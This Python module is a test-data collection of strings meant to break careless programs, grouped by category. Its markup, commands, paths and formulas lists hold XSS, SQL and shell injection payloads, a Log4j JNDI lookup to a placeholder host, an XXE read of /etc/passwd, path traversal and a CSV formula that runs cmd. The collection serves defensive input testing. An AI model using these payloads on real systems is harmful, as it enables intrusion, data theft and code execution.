"""About 500 texts that break careless programs, by what they break. Our own collection: made here, copied from nowhere."""

from __future__ import annotations

import json
from functools import cache

MEGABYTE = 1_000_000
"""The longest text that a field keeps, in characters."""


def _controls() -> list[str]:
    codes = [*range(0x01, 0x20), 0x7F, *range(0x80, 0xA0)]
    return [f"a{chr(code)}b" for code in codes] + [f"{chr(code)}c" for code in codes[:34]]


def _nuls() -> list[str]:
    return ["\x00", "a\x00", "\x00a", "a\x00b", "a\x00\x00b", "%00\x00", "name\x00.txt"]


def _halves() -> list[str]:
    return ["\ud800", "\udfff", "a\udc00b", "\udc00\ud800", "x\ud83d", "\udcff"]


def _invisible() -> list[str]:
    marks = (
        "\u00ad", "\u034f", "\u061c", "\u115f", "\u17b4", "\u180e", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\u3164",
        "\ufe0f", "\ufeff", "\uffa0", "\U000e0001", "\U000e0041", "\U000e0100",
    )
    return [f"a{mark}b" for mark in marks] + [mark * 3 + "c" for mark in marks[4:12]]


def _directions() -> list[str]:
    marks = ("\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")
    return [f"x{mark}txt.exe" for mark in marks] + ["\u05d0\u05d1\u05d2 abc \u0627\u0628", "\u202e\u202e\u202e", "\u2067" * 70 + "z"]


def _spaces() -> list[str]:
    signs = ("\u00a0", "\u1680", "\u2000", "\u2003", "\u2007", "\u2009", "\u202f", "\u205f", "\u3000", "\u0085", "\u2028", "\u2029")
    return [f"a{sign}b" for sign in signs] + [f"{sign}c{sign}" for sign in signs] + list(signs[:4])


def _lines() -> list[str]:
    return [
        "a\nb", "a\rb", "a\r\nb", "\n", "\r\n", "\na", "a\n", "\n\n\na", "a\n\n\n\nb", "a\u000bb", "a\u000cb", "a\n\rb", "\ta", "a\tb",
        "a\t",
    ]


def _marks() -> list[str]:
    return [
        "e\u0301", "\u0301", "a" + "\u0301" * 30, "a" + "\u0300\u0327" * 20, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f",
        "a" + "\u0301" * 64, "a" + "\u0301" * 65, "a" + "\u0315\u0300\u05ae\u0327" * 5_000, "q\u0323\u0307", "q\u0307\u0323",
        "\u1e9b\u0323", "\u0958", "\u2126", "\u212b", "\uac00\u11a8", "\u1100\u1161\u11a8",
    ]


def _wide() -> list[str]:
    return [
        "\ufb01", "\u00df", "\u0130", "\u0131", "\u017f", "\ufdfa", "\ufdfd", "\u2e3b", "\U0001f100", "\uff1cscript\uff1e", "\u01c5",
        "\u1d24\u1d00", "\u24b6", "\u2460", "\u00bc", "\u0e33", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U000f0000", "\ue000",
        "\U0001d54f", "\U00020bb7\u91ce", "\u00c5ngstr\u00f6m", "\u0411\u0443\u043a\u0432\u0430", "\u4e2d\u6587", "\u30c6\u30b9\u30c8",
        "\u0e20\u0e32\u0e29\u0e32", "\u0939\u093f\u0928\u094d\u0926\u0940",
    ]


def _emoji() -> list[str]:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
    return [
        "\U0001f600", family, family * 50, "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f1e9\U0001f1ea", "\U0001f1e9", "1\ufe0f\u20e3",
        "\U0001f44b\U0001f3ff", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u2764\ufe0f", "\u263a",
    ]


def _markup() -> list[str]:
    script = "alert(1)"
    return [
        f"<script>{script}</script>", f"</script><script>{script}</script>", f"<ScRiPt >{script}</sCrIpT>",
        f"<<script>{script}//<</script>", f'"><script>{script}</script>', f"'><script>{script}</script>", f"<img src=x onerror={script}>",
        f'" onmouseover="{script}', f"' onfocus='{script}' autofocus='", f"<svg onload={script}>", f'<a href="javascript:{script}">x</a>',
        "<iframe src=//x.test></iframe>", f"<body onload={script}>", "<style>*{display:none}</style>", "</style><b>", "</title><b>",
        "</textarea><b>", "</select><b>", "</td></tr></table><b>", "<!--", "-->", "<!-- --!>", "<![CDATA[x]]>", "]]>", "<?php echo 1 ?>",
        "&lt;b&gt;", "&amp;amp;", "&#0;", "&#x3c;script&#x3e;", "&nbsp;", "&notanentity;", "<b>bold</b>", "<", ">", "&", '"', "'", "`",
        "<>", "a<b>c", "<p", "<math><mtext>", f"javascript:{script}", f"JaVaScRiPt:{script}", f"data:text/html,<script>{script}</script>",
        "vbscript:msgbox(1)", f"<form action=//x.test><input name=csrf_token>{script}", f'<object data="javascript:{script}">',
        "<base href=//x.test/>", "<meta http-equiv=refresh content=0;url=//x.test>", "<link rel=stylesheet href=//x.test>",
        f"<x hx-get=/ hx-on::load={script}>", f"<button data-action={script}>", 'style="x:expression(1)"',
        "<input type=hidden name=id value=1>",
    ]


def _commands() -> list[str]:
    return [
        "' OR '1'='1", "'; DROP TABLE account; --", '" OR ""="', "1; SELECT pg_sleep(10)", "' UNION SELECT 1,2,3 --", "%' AND 1=0 --",
        "\\'; --", "x' AND (SELECT 1)=1 /*", "*/", "--", "/**/", "$$;SELECT 1;$$", ":name", ":1", "?", "??", "%s", "%(x)s", "$1", "@x",
        "_%", "%", "_", "\\%", "\\_", "[a-z]", "*", "a*", '"a" OR b', "a AND b", "NEAR(a b)", "NOT", "OR", "^a", "a:b", "{a b}", "(", ")",
        '"', "`id`", "$(id)", "${x}", "; id", "| id", "&& id", "> /tmp/naughty", "$HOME", "~root", "-rf", "--help", "-", "\\", "\\\\",
        "\\n", "{{7*7}}", "{%if%}", "{#", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{x}", "{x.__class__}", "{}", "{", "}", "{{", "%d%n%n",
        "%s%s%s%s", "%1$s", "{name!r}", "__import__('os').system('id')", "lambda: 0", "().__class__.__bases__", "__proto__",
        "constructor", "toString", "!!python/object/apply:os.system [id]", "*alias", "&anchor", "- a", "a: b", "a # b", "? x", "|", ">-",
        "@reserved", "%TAG", "${jndi:ldap://x.test/a}", "[info] forged line", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08x",
        "(&(uid=*)(x=*))", "Subject: x", "a@b.test\nBcc: c@d.test",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ]


def _paths() -> list[str]:
    return [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\CON", "CON", "NUL", "aux.txt", ".",
        "..", "...", "./", "//", "a/b", "a//b", "%2e%2e%2f", "%252e", "%", "%zz", "%u0041", "a?b=c", "a#b", "a;b", "a&b=c", "+", "a+b",
        "~", ".htaccess", "a\u2215b", "\u2025", "http://[::1", "http://x.test@y.test", "//x.test", "https://user:pass@x.test:99999/",
        "x" * 300 + ".txt",
    ]


def _formulas() -> list[str]:
    return [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("//x.test")', "'=1+1", "''=1", "'", "'a", "\t=1", "\r=1",
        "=", "+", "@", "-", "'@x", '="a"', "1;2", "1,2", "a,b", "a;b", 'a"b', '"a,b"', 'a""b', '"', '""', ",", ";", ",,,",
    ]


def _nothings() -> list[str]:
    return [
        "null", "NULL", "Null", "nil", "None", "none", "undefined", "NaN", "nan", "Infinity", "-Infinity", "inf", "true", "false", "True",
        "yes", "no", "on", "off", "N/A", "#N/A", "#REF!", "-1", "0", "00", "''", '""', "[]", "{}", "[object Object]", "(null)", "void",
        "EOF",
    ]


def _numbers() -> list[str]:
    return [
        "1", "-0", "01", "1.0", "1.", ".5", "1e3", "1E400", "-1e-400", "0x1F", "0b1", "0o7", "1_000", "1,000", "1.000,00", "1 000",
        "1'000", "\u0661\u0662\u0663", "\uff11\uff12", "\u00b2", "\u2460", "\u4e00", "\u221e", "+5", "--5", "5-", "1/2", "10%",
        "2147483648", "9007199254740993", "9223372036854775808", str(2**70), f"-{2**70}", str(10**400), "0." + "1" * 40, "1e1000000",
        "1k", "1.2.3", "$1", "1 \u20ac", "\u22125",
    ]


def _dates() -> list[str]:
    return [
        "2026-02-30", "2026-02-29", "2024-02-29", "2026-13-01", "2026-00-10", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01",
        "-0001-01-01", "2026-1-1", "31.12.2026", "12/31/2026", "31/12/2026", "2026-W53-7", "2026-366", "1e9-01-01", "today", "+3d",
        "+9999y", "24:00", "23:59:60", "12:61", "25:00", "2026-06-30T24:00:00", "2026-06-30T10:00:00+99:00",
        "2026-03-29T02:30:00 Europe/Berlin", "2026-06-30T10:00:00.1234567890Z", "PT1H", "P1Y", "PT" + "9" * 30 + "H", "1h30", "-1h",
        "0000-01-01T00:00:00Z",
    ]


def _long() -> list[str]:
    return [
        "a" * 201, "a" * 4_001, "\u00e9" * 3_000, "\U0001f600" * 1_000, "a " * 2_000, "\u0627\u0644" * 500, "<b>" * 700, "&" * 900,
        "\\" * 900, '"' * 900, "a" * 255 + "\u00e9", "\u1e9b\u0323" * 200, "ab" * 1_200,
    ]


def _mails() -> list[str]:
    return [
        "@", "a@", "@b", "a@b", "a@b@c.test", "a b@c.test", '"a b"@c.test', "a@[127.0.0.1]", "a@xn--80ak6aa92e.test", "a@b..test",
        "a@-b.test", "\u00e4@\u00f6.test", "a@" + "b" * 300 + ".test", "a" * 80 + "@b.test", "a@b.test, c@d.test", "a@b.test\x0bx",
        "#2453c9", "#2453C9", "#12", "red", "+49 30 123456", "tel:1", "+", "00", "HD-1042", "1", "directory.person",
    ]


_MADE = {
    "controls": _controls,
    "nuls": _nuls,
    "halves": _halves,
    "invisible": _invisible,
    "directions": _directions,
    "spaces": _spaces,
    "lines": _lines,
    "marks": _marks,
    "wide": _wide,
    "emoji": _emoji,
    "markup": _markup,
    "commands": _commands,
    "paths": _paths,
    "formulas": _formulas,
    "nothings": _nothings,
    "numbers": _numbers,
    "dates": _dates,
    "long": _long,
    "mails": _mails,
}


@cache
def categories() -> dict[str, tuple[str, ...]]:
    """The texts by what they are; each stands in one category only."""
    seen: set[str] = set()
    found: dict[str, tuple[str, ...]] = {}
    for name, make in _MADE.items():
        found[name] = tuple(text for text in dict.fromkeys(make()) if text not in seen)
        seen |= set(found[name])
    return found


@cache
def everything() -> tuple[str, ...]:
    """All texts, category by category."""
    return tuple(text for held in categories().values() for text in held)


def huge() -> tuple[str, ...]:
    """Texts about as long as a field keeps, and one character longer."""
    return (
        "a" * MEGABYTE, "a" * (MEGABYTE + 1), "\u00e9" * (MEGABYTE // 2), "a" + "\u0301\u0327" * (MEGABYTE // 4), "<b>" * (MEGABYTE // 3),
    )


def twenty() -> tuple[str, ...]:
    """Twenty of them that go into places where text is shown: one or two of each kind of break."""
    return (
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onfocus='alert(1)' autofocus='",
        "</textarea></title></select><b>", "javascript:alert(1)", "{{7*7}}{%if%}", "${7*7}<%= 7 %>", "%s%(x)s{0}{x}",
        "'; DROP TABLE account; --", "=cmd|' /C calc'!A0", "x\u202etxt.exe", "a\u200bb\ufeff", "Z" + "\u0351\u036b" * 15,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "&lt;b&gt;&#x3c;", "a\x01b\x7fc", "a\nb", "\u2028\u0085x", "\\\"'`\\",
        "\U0010ffff\ufffe\ue000",
    )


def as_json(text: str) -> bytes:
    """The text as a JSON string in ASCII; halves of characters stay halves."""
    return json.dumps(text).encode("ascii")
